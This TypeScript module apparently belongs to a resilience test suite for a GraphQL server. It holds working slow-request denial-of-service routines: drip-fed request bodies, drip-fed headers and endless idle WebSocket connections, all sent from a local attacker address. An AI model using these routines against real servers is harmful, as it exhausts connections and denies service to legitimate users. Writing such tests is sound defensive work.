import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { closeOf, type Target } from './target.ts';

/** The address from which the attack comes: that of the honest caller is another. */
const FROM = '127.0.0.2';

/** Opens a connection, sends the beginning of a request, then a byte of the rest each second, until it is closed. */
async function sendSlowly({ url }: Target, beginning: string, rest: string): Promise<void> {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), localAddress: FROM });
  socket.on('error', () => {});
  socket.resume();
  const closed = new Promise<true>((resolve) => socket.once('close', () => resolve(true)));
  socket.write(beginning);
  for (let at = 0; at < rest.length; at++) {
    socket.write(rest[at] ?? '');
    if (await Promise.race([closed, delay(1_000, false)])) break;
  }
  socket.destroy();
  await delay(100);
}

export async function sendBodySlowly(target: Target): Promise<void> {
  const head = [
    'POST /graphql HTTP/1.1',
    `host: ${new URL(target.url).host}`,
    `authorization: Bearer ${target.token}`,
    'content-type: application/json',
    'content-length: 1000000',
  ];
  for (;;) await sendSlowly(target, `${head.join('\r\n')}\r\n\r\n{"query":"`, ' '.repeat(1_000));
}

export async function sendHeadersSlowly(target: Target): Promise<void> {
  const beginning = `POST /graphql HTTP/1.1\r\nhost: ${new URL(target.url).host}\r\nx-slow: `;
  for (;;) await sendSlowly(target, beginning, 'x'.repeat(1_000));
}

/** Opens WebSockets one after the other, and sends nothing on any. */
export async function openSilently({ url }: Target): Promise<void> {
  for (;;) {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
      localAddress: FROM,
    });
    const closed = closeOf(socket);
    await Promise.race([once(socket, 'open').catch(() => {}), closed]);
    if (socket.readyState !== socket.OPEN) await delay(10);
  }
}
